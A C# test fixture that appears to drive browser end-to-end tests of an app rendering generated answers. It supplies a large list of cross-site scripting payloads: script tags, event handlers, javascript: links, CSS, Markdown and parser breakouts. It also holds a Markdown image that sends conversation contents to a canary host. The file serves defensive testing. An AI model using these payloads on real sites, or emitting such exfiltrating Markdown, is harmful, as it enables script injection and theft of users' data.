namespace PromptDesigner.EndToEnd.Tests.Browser;

/// <summary>What can be written into an answer to run code, to fetch, or to leave its place in a page. PWN stands for the code, CANARY for an address that nobody may ask.</summary>
internal static class HostilePayloads
{
    private static readonly string[] Scripts =
    [
        "<script>PWN</script>", "<ScRiPt>PWN</sCrIpT>", "<script/x>PWN</script>", "<<script>PWN//<</script>", "<script\n>PWN</script\n>", "<script src=CANARY/s.js></script>",
        "<script type=module>import 'CANARY/m.js'</script>", "<script async defer src='//CANARYHOST/s.js'></script>", "<svg><script>PWN</script></svg>", "<svg><script href='CANARY/s.js'/></svg>",
        "<math><script>PWN</script></math>", "<noscript><p title='</noscript><script>PWN</script>'></noscript>", "<template><script>PWN</script></template>", "<script>PWN", "<scr<script>ipt>PWN</scr</script>ipt>",
        "\\u003cscript\\u003ePWN\\u003c/script\\u003e", "%3Cscript%3EPWN%3C/script%3E", "&lt;script&gt;PWN&lt;/script&gt;", "\uff1cscript\uff1ePWN\uff1c/script\uff1e", "<script type='speculationrules'>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"CANARY/p\"]}]}</script>",
    ];

    private static readonly string[] Handlers =
    [
        "<img src=x onerror=PWN>", "<img src=x onerror='PWN'//", "<img/src/onerror=PWN>", "<img src=x:x one\u0000rror=PWN>", "<IMG SRC=x OnErRoR=PWN>", "<img src=`x`onerror=PWN>", "<svg onload=PWN>", "<svg/onload=PWN//", "<body onload=PWN>",
        "<video src=x onerror=PWN>", "<video onloadstart=PWN><source src=x>", "<audio src=x onerror=PWN>", "<details open ontoggle=PWN>x</details>", "<input autofocus onfocus=PWN>", "<select autofocus onfocus=PWN><option>x</select>",
        "<textarea autofocus onfocus=PWN></textarea>", "<marquee onstart=PWN>x</marquee>", "<object data=x onerror=PWN>", "<iframe onload=PWN></iframe>", "<style onload=PWN></style>", "<link rel=stylesheet href=data:, onload=PWN>",
        "<div style='animation:x 1s' onanimationstart=PWN>x</div>", "<div tabindex=0 autofocus onfocus=PWN>x</div>", "<svg><animate onbegin=PWN attributeName=x dur=1s></svg>", "<svg><set onbegin=PWN attributeName=x></svg>",
        "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=PWN>x</div>", "<form><button formaction='javascript:PWN' autofocus onfocus=PWN>x</button></form>", "<p onmouseover=PWN style='position:fixed;inset:0'>x</p>", "<xss contenteditable autofocus onfocus=PWN>x</xss>",
    ];

    private static readonly string[] Addresses =
    [
        "<a href='javascript:PWN'>x</a>", "<a href='JaVaScRiPt:PWN'>x</a>", "<a href='java\tscript:PWN'>x</a>", "<a href='java\nscript:PWN'>x</a>", "<a href=' \u0001javascript:PWN'>x</a>", "<a href='&#106;avascript:PWN'>x</a>", "<a href='javascript&colon;PWN'>x</a>",
        "<a href='vbscript:PWN'>x</a>", "<a href='data:text/html,<script>PWN</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg=='>x</a>", "<iframe src='javascript:parent.PWN'></iframe>", "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",
        "<iframe src='data:text/html,<script>parent.PWN</script>'></iframe>", "<object data='javascript:PWN'></object>", "<embed src='javascript:PWN'>", "<form action='javascript:PWN'><input type=submit></form>", "<svg><a xlink:href='javascript:PWN'><text y=20>x</text></a></svg>",
        "<math href='javascript:PWN'>x</math>", "<meta http-equiv=refresh content='0;url=CANARY/r'>", "<meta http-equiv=refresh content='0;url=javascript:PWN'>", "<base href='CANARY/'><a href=x>x</a>", "<area href='javascript:PWN' shape=default>", "<a href='//CANARYHOST/x' target=_top>x</a>",
    ];

    private static readonly string[] Fetches =
    [
        "<img src='CANARY/i.png'>", "<img srcset='CANARY/i.png 1x'>", "<picture><source srcset='CANARY/p.png'><img></picture>", "<video poster='CANARY/v.png'></video>", "<video src='CANARY/v.mp4' autoplay></video>", "<audio src='CANARY/a.mp3' autoplay></audio>",
        "<video><track default src='CANARY/t.vtt'></video>", "<embed src='CANARY/e'>", "<object data='CANARY/o'></object>", "<iframe src='CANARY/f'></iframe>", "<input type=image src='CANARY/in.png'>", "<body background='CANARY/b.png'>", "<table background='CANARY/t.png'><tr><td>x</table>",
        "<svg><image href='CANARY/s.png'/></svg>", "<svg><use href='CANARY/u.svg#x'/></svg>", "<svg><filter id=f><feImage href='CANARY/fe.png'/></filter></svg>", "<a href='#' ping='CANARY/ping'>x</a>", "<link rel=stylesheet href='CANARY/l.css'>", "<link rel=preload as=image href='CANARY/p.png'>",
        "<link rel=prefetch href='CANARY/p'>", "<link rel=dns-prefetch href='CANARY'>", "<link rel=icon href='CANARY/i.ico'>", "<link rel=manifest href='CANARY/m.json'>", "<link rel=modulepreload href='CANARY/m.js'>", "<form action='CANARY/form'><input name=q><button>Send</button></form>",
    ];

    private static readonly string[] Styles =
    [
        "<style>@import 'CANARY/c.css';</style>", "<style>body{background:url(CANARY/b.png)}</style>", "<style>@font-face{font-family:x;src:url(CANARY/f.woff2)} *{font-family:x}</style>", "<style>*::before{content:url(CANARY/c.png)}</style>", "<style>input[value^=a]{background:url(CANARY/a)}</style>",
        "<div style='background:url(CANARY/d.png)'>x</div>", "<div style='background:\\75rl(CANARY/e.png)'>x</div>", "<li style='list-style-image:url(CANARY/l.png)'>x</li>", "<div style='cursor:url(CANARY/c.cur),auto'>x</div>", "<div style='width:expression(PWN)'>x</div>", "<div style='-moz-binding:url(CANARY/x.xml#x)'>x</div>",
        "<div style='position:fixed;inset:0;z-index:99999;background:red'>over all</div>", "<style>html,body,*{display:none!important}</style>", "<div style='margin-left:-9999px;width:99999px;height:99999px'>wide</div>", "<svg><style>@import 'CANARY/s.css'</style></svg>",
    ];

    private static readonly string[] Markdown =
    [
        "[x](javascript:PWN)", "[x](JaVaScRiPt:PWN)", "[x](javascript&#58;PWN)", "[x](java&Tab;script:PWN)", "[x](<javascript:PWN>)", "[x](data:text/html,<script>PWN</script>)", "[x](vbscript:PWN)", "[x][y]\n\n[y]: javascript:PWN", "<javascript:PWN>", "![x](CANARY/md.png)", "![x](CANARY/md.png \"a\" onerror=PWN)",
        "![x\" onerror=\"PWN](x)", "[x](x \"\" onmouseover=PWN)", "[![x](CANARY/in.png)](javascript:PWN)", "[x](//CANARYHOST/x)", "![x](//CANARYHOST/x.png)", "| a |\n|---|\n| <img src=x onerror=PWN> |", "```html\n</code></pre><script>PWN</script>\n```", "~~~\"><img src=x onerror=PWN>\n~~~", "# <svg onload=PWN>", "> <script>PWN</script>",
        "- [ ] <img src=x onerror=PWN>", "[^1]\n\n[^1]: <script>PWN</script>", "x {onclick=PWN}", "## h {#x onclick=PWN}", "$$\\href{javascript:PWN}{x}$$", "![x](CANARY/q.png?secret=all-that-was-said)",
    ];

    private static readonly string[] Ways =
    [
        "</textarea><script>PWN</script>", "</title><script>PWN</script>", "</iframe><script>PWN</script>", "</style><script>PWN</script>", "--><script>PWN</script>", "]]><script>PWN</script>", "\"><script>PWN</script>", "'><img src=x onerror=PWN>", "</div></div></main></body><script>PWN</script>", "<!--",
        "<math><mtext></table><img src=x onerror=PWN>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>", "<svg></p><style><a id=\"</style><img src=x onerror=PWN>\">", "<noembed><img title=\"</noembed><img src=x onerror=PWN>\"></noembed>", "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=PWN>\"></svg>",
        "<table><td><select><svg><style><img src=x onerror=PWN>", "{{constructor.constructor('PWN')()}}", "${PWN}", "@(PWN)", "<plaintext>", "<a id=pwned name=pwned>x</a>", "<form id=documentElement><input name=scrollWidth></form>",
    ];

    /// <summary>All of them.</summary>
    /// <param name="canary">The address that nobody may ask.</param>
    public static IReadOnlyList<string> All(string canary) =>
    [
        .. Scripts.Concat(Handlers).Concat(Addresses).Concat(Fetches).Concat(Styles).Concat(Markdown).Concat(Ways)
            .Select(x => x.Replace("PWN", "window.pwned=1", StringComparison.Ordinal).Replace("CANARYHOST", new Uri(canary).Authority, StringComparison.Ordinal).Replace("CANARY", canary, StringComparison.Ordinal)),
    ];
}
